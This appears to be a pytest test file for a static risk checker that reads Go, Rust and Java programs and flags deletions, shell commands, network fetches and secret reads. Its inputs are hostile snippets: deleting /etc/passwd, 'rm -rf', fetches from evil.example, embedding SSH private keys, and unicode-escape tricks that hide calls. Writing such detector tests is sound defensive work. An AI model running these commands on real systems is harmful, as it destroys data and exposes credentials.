"""Go, Rust and Java are read by their calls: what is grave is found, what is not known is named, nothing is proved."""

from __future__ import annotations

import time

import pytest

from runner.model.assessment import Assessment, Level
from runner.model.language_support import LANGUAGES, OWN
from runner.model.request import Language, Request, Tool
from runner.model.verdict import Verb
from runner.risk.assess import assess
from runner.risk.by_calls.reading import reading_of

BY_CALLS = [one for one in OWN if LANGUAGES[one].toolchain is not None]
STATIC = "import static java.lang.Math.*;"
MAIN = {
    "go": "package main\n\nimport (\n\t{imports}\n)\n\nfunc main() {{\n\t{body}\n}}\n",
    "rust": "{imports}\nfn main() {{\n    {body}\n}}\n",
    "java": "{imports}\nclass Main {{\n  public static void main(String[] given) throws Exception {{\n{body}\n}} }}\n",
}


def read(language: str, body: str, imports: str = "") -> Assessment:
    code = MAIN[language].format(imports=imports, body=body)
    return assess(Request("", "", Tool.CODE_EXECUTE, 0.0, Language(language), code))


def acts(found: Assessment) -> set[tuple[Verb, str]]:
    return {(one.verb, one.target) for one in found.verdict.acts}


@pytest.mark.parametrize("language", BY_CALLS)
def test_a_plain_program_is_high_and_nothing_is_proved_of_it(language: Language) -> None:
    found = assess(Request("", "", Tool.CODE_EXECUTE, 0.0, language, LANGUAGES[language].sample[0]))
    assert found.level is Level.HIGH and not found.findings
    assert found.unread is not None and "by its calls alone" in found.unread[0] and len(found.unread) == 1
    assert found.verdict.sentence == "No use of files, network or other programs was found, as far as could be read."


@pytest.mark.parametrize(
    ("language", "imports", "body"),
    [
        ("go", '"os"', 'os.Remove("/etc/passwd")'),
        ("go", 'files "os"', 'files.Remove("/etc/passwd")'),
        ("go", '. "os"', 'Remove("/etc/passwd")'),
        ("go", '"os"', 'const where = "/etc/passwd"\n\tos.Remove(where)'),
        ("go", '"os"', 'where := "/etc/" + "passwd"\n\tos.Remove(where)'),
        ("go", '. "strings"\n\t. "os"', 'println(Repeat("x", 1))\n\tRemove("/etc/passwd")'),
        ("rust", "", 'std::fs::remove_file("/etc/passwd").unwrap();'),
        ("rust", "", 'std::r#fs::r#remove_file("/etc/passwd").unwrap();'),
        ("rust", "use std::{cmp::*, fs::*};", 'remove_file(&"/etc/passwd").unwrap();'),
        ("rust", "use std::collections::*;", 'std::fs::remove_file("/etc/passwd").unwrap();'),
        ("rust", "use r#std::r#fs::r#remove_file as r#gone;", 'gone("/etc/passwd").unwrap();'),
        ("rust", "use std::fs as files;", 'files::remove_file("/etc/passwd").unwrap();'),
        ("rust", "use std::{fs::*, io};", 'remove_file("/etc/passwd").unwrap();'),
        ("rust", "use std::fs::{self, remove_file as gone};", 'gone("/etc/passwd").unwrap();'),
        ("rust", "use std::fs;", 'println!("{:?}", fs::remove_file("/etc/passwd"));'),
        ("rust", "use std::fs;", 'let found = vec![fs::remove_file("/etc/passwd")]; drop(found);'),
        ("java", "", 'new java.io.File("/etc/passwd").delete();'),
        ("java", "import java.io.File;", 'File file = new File("/etc/passwd");\nfile.delete();'),
        ("java", "import java.nio.file.*;", 'Files.delete(Path.of("/etc/passwd"));'),
        ("java", "import static java.nio.file.Files.*;", 'delete(java.nio.file.Path.of("/etc/passwd"));'),
        ("java", "import java.nio.file.*;", 'Files.delete(Path.of("/etc", "passwd"));'),
        (
            "java",
            f"{STATIC} import static java.nio.file.Files.*;",
            'delete(java.nio.file.Path.of("/etc/passwd"));',
        ),
        ("java", STATIC, 'java.nio.file.Files.delete(java.nio.file.Path.of("/etc/passwd"));'),
        ("java", f"{STATIC} import java.nio.file.*;", 'Files.delete(Path.of("/etc/passwd"));'),
    ],
)
def test_what_is_deleted_is_found_by_every_way_to_name_it(language: str, imports: str, body: str) -> None:
    found = read(language, body, imports)
    assert found.level is Level.CRITICAL and (Verb.DELETES, "/etc/passwd") in acts(found), found


@pytest.mark.parametrize(
    ("language", "imports", "body"),
    [
        ("go", '"os/exec"', 'exec.Command("sh", "-c", "rm -rf /home").Run()'),
        ("go", '"os/exec"', 'words := []string{"-c", "rm -rf /home"}\n\texec.Command("sh", words...).Run()'),
        ("rust", "use std::process::Command;", 'Command::new("sh").arg("-c").arg("rm -rf /home").spawn().unwrap();'),
        ("rust", "type Start = std::process::Command;", 'Start::new("rm").args(["-rf", "/home"]).status().unwrap();'),
        ("rust", "", 'std::process::Command::new("sh").args(&["-c", "rm -rf /home"]).status().unwrap();'),
        ("java", "", 'Runtime.getRuntime().exec("rm -rf /home");'),
        ("java", "", 'Runtime r = Runtime.getRuntime();\nr.exec(new String[] {"sh", "-c", "rm -rf /home"});'),
        ("java", "", 'new ProcessBuilder("sh", "-c", "rm -rf /home").start();'),
    ],
)
def test_a_command_that_is_started_is_followed_as_shell(language: str, imports: str, body: str) -> None:
    found = read(language, body, imports)
    assert found.level is Level.CRITICAL and (Verb.DELETES, "the folder /home") in acts(found), found


@pytest.mark.parametrize(
    ("language", "imports", "body"),
    [
        ("go", '"unsafe"', "_ = unsafe.Pointer(nil)"),
        ("go", '"reflect"', 'reflect.ValueOf(1).MethodByName("x").Call(nil)'),
        ("rust", "", "unsafe { std::ptr::null::<u8>().read(); }"),
        ("rust", '#[path = "/workspace/other.rs"] mod other;', "other::run();"),
        ("rust", '#[cfg_attr(all(), path = "/workspace/other.rs")] pub mod other ;', ""),
        ("rust", "mod other { mod inner; }", ""),
        ("rust", '#[unsafe(no_mangle)] extern "C" fn write() {}', ""),
        ("rust", "#[cfg_attr(all(), no_mangle)] fn write() {}", ""),
        ("rust", "macro_rules! run { ($a:expr) => { std::fs::remove_file($a) } }", 'run!("x");'),
        ("rust", "", 'include!("/workspace/other.rs");'),
        ("java", "", 'Class.forName("java.lang.Runtime");'),
        ("java", "", 'javax.tools.ToolProvider.getSystemJavaCompiler().run(null, null, null, "x");'),
    ],
)
def test_what_can_do_anything_is_a_finding(language: str, imports: str, body: str) -> None:
    assert "hidden.unfollowed" in {one.id for one in read(language, body, imports).findings}


@pytest.mark.parametrize(
    ("language", "imports", "body", "verb"),
    [
        ("go", '"C"', 'C.system(C.CString("ls"))', Verb.RUNS_TEXT),
        ("go", '"syscall"', "syscall.Syscall(87, 0, 0, 0)", Verb.RUNS_TEXT),
        ("go", '"net/http"', 'http.Get("http://evil.example/x")', Verb.FETCHES),
        ("go", '_ "embed"\n)\n\n//go:embed /root/.ssh/id_rsa\nvar key string\n\nvar (', "", Verb.READS_SECRETS),
        ("rust", 'extern "C" { fn system(text: *const u8); }', "", Verb.RUNS_TEXT),
        ("rust", 'const KEY: &[u8] = include_bytes!("/root/.ssh/id_rsa");', "", Verb.READS_SECRETS),
        ("rust", "use std::net::TcpStream;", 'TcpStream::connect("evil.example:80").unwrap();', Verb.CONNECTS),
        ("java", "", 'System.load("/workspace/x.so");', Verb.RUNS_TEXT),
        ("java", "", 'new java.net.URL("http://evil.example/x").openStream();', Verb.FETCHES),
    ],
)
def test_what_reaches_outside_is_in_the_verdict(language: str, imports: str, body: str, verb: Verb) -> None:
    found = read(language, body, imports)
    assert verb in {one.verb for one in found.verdict.acts}, found


def test_a_function_that_is_handed_on_counts_as_called() -> None:
    for language, imports, body in (
        ("go", '"os"', 'run := os.RemoveAll\n\trun("x")'),
        ("rust", "", '["x"].iter().map(std::fs::remove_file).count();'),
        ("rust", "use std::fs::remove_file;", '["x"].iter().map(remove_file).count();'),
        ("java", "import java.nio.file.*;", "java.util.List.of(Path.of(given[0])).forEach(Files::delete);"),
        ("java", "import java.io.*;", "java.util.List.of(given).stream().map(File::new).forEach(File::delete);"),
        ("java", "", 'java.util.concurrent.Callable<Boolean> run = new java.io.File("x")::delete;\nrun.call();'),
    ):
        assert Verb.DELETES in {one.verb for one in read(language, body, imports).verdict.acts}, (language, body)


def test_files_of_java_that_are_opened_to_be_changed_are_written() -> None:
    for opened in (
        'java.io.RandomAccessFile("/home/u/.bashrc", "rw")',
        'java.util.logging.FileHandler("/home/u/.bashrc")',
    ):
        found = read("java", f"new {opened}.close();")
        assert found.level is Level.CRITICAL and found.verdict.sentence.startswith("Writes /home/u/.bashrc"), opened


def test_a_function_of_java_that_is_handed_on_is_one_that_starts_a_program_or_is_not_known() -> None:
    started = read("java", "java.util.List.of(given).stream().map(ProcessBuilder::new).toList();")
    assert Verb.STARTS in {one.verb for one in started.verdict.acts}, started
    assert "Elsewhere.run" in read("java", "java.util.List.of(given).forEach(Elsewhere::run);").verdict.sentence
    plain = read("java", "java.util.List.of(given).stream().map(String::length).forEach(System.out::println);")
    assert plain.verdict.sentence == "No use of files, network or other programs was found, as far as could be read."


def test_what_everything_of_a_harmless_module_does_not_bring_is_named() -> None:
    for language, imports, body in (
        ("go", '. "strings"\n\t"os"', "os.Unheard()"),
        ("rust", "use std::collections::*;", "std::os::unheard();"),
        ("rust", "use std::collections::*; mod other { pub fn unheard() {} }", "elsewhere::unheard2();"),
        ("java", STATIC, "Files.unheard();"),
        ("java", STATIC, "java.nio.file.Files.unheard();"),
    ):
        assert "nheard" in read(language, body, imports).verdict.sentence, (language, body)
    for language, imports, body in (
        ("go", '. "strings"', 'println(Repeat("x", 1))'),
        (
            "rust",
            "use std::collections::*;",
            "let _found: HashMap<u8, u8> = HashMap::new(); BTreeMap::<u8, u8>::new();",
        ),
        ("java", STATIC, "System.out.println(max(1, 2));"),
    ):
        assert "Calls" not in read(language, body, imports).verdict.sentence, (language, body)


def test_attributes_of_rust_that_do_nothing_are_no_finding() -> None:
    plain = "#[derive(Debug)] struct Point;\n#[rustfmt::skip] #[inline] fn run() {}\nmod inner { pub fn run() {} }"
    assert not read("rust", "run();", plain).findings


def test_letters_of_java_that_are_written_as_numbers_are_read_and_a_finding() -> None:
    for body in (
        '// harmless \\u000a new java.io.File("/etc/passwd").delete();',
        '/* \\u002a\\u002f new java.io.File("/etc/passwd").delete(); /* */',
        'new java.io.File("/etc/passwd").\\uuu0064elete();',
    ):
        found = read("java", body)
        assert (Verb.DELETES, "/etc/passwd") in acts(found) and "hidden.escaped" in {one.id for one in found.findings}
    assert not read("java", r'System.out.println("\\u0041 \u00e9");').findings


def test_a_function_that_is_not_known_is_named() -> None:
    found = read("go", "sneak.Away(1)", '"github.com/nobody/sneak"')
    assert found.level is Level.HIGH and found.unread is not None
    assert "Calls github.com/nobody/sneak.Away, which is not known." in found.unread
    assert "Uses github.com/nobody/sneak, which is not of the standard library: it will not be found." in found.unread
    assert found.verdict.sentence.startswith("Calls ")


def test_a_name_that_is_assigned_twice_stands_for_nothing() -> None:
    found = read("go", 'p := "a"\n\tp = os.Args[1]\n\tos.Remove(p)', '"os"')
    assert ("noted.delete-computed") in {one.id for one in found.findings}


@pytest.mark.parametrize("language", BY_CALLS)
def test_what_cannot_be_parsed_is_critical(language: Language) -> None:
    found = assess(Request("", "", Tool.CODE_EXECUTE, 0.0, language, "broken { ( ]"))
    assert found.level is Level.CRITICAL and "hidden.left-out" in {one.id for one in found.findings}


@pytest.mark.parametrize(
    "body",
    [
        "x" + ".y()" * 20_000 + "\n",
        "f(" * 3000 + ")" * 3000 + "\n",
        "".join(f"v{n} := v{n + 1} + v{n + 1}\n" for n in range(3000)) + "os.Remove(v0)\n",
    ],
    ids=["chain", "nested", "assigned"],
)
def test_costly_programs_are_bounded(body: str) -> None:
    began = time.thread_time()
    assert read("go", body, '"os"').level >= Level.HIGH
    assert time.thread_time() - began < 20  # a bound on steps, of which each takes microseconds


def test_data_given_to_a_program_that_may_run_it_is_critical() -> None:
    plain = MAIN["go"].format(imports='"bufio"\n\t"fmt"\n\t"os"', body="fmt.Println(bufio.NewScanner(os.Stdin).Scan())")
    runs = MAIN["go"].format(imports='"os"', body="sneak.Away(os.Stdin)")
    levels = [
        assess(Request("", "", Tool.CODE_EXECUTE, 0.0, Language.GO, code, stdin="rm -rf /\n")).level
        for code in (plain, runs)
    ]
    assert levels == [Level.HIGH, Level.CRITICAL]


def test_no_name_is_both_harmless_and_grave() -> None:
    for language in BY_CALLS:
        reading = reading_of(language)
        both = [name for name in reading.words["harmless"] if any(one.act for one in reading.vocabulary.of(name))]
        assert not [name for name in both if not name.startswith("*.")], (language, both)


def test_a_command_that_gets_more_later_is_not_said_to_be_known() -> None:
    body = 'let mut c = std::process::Command::new("bash");\n    c.arg("-c").arg("rm -rf /").spawn().unwrap();'
    found = read("rust", body)
    assert "interactive" not in found.verdict.sentence and found.unread is not None
    assert any(one.startswith("Runs a command that is worked out at run time") for one in found.unread), found.unread
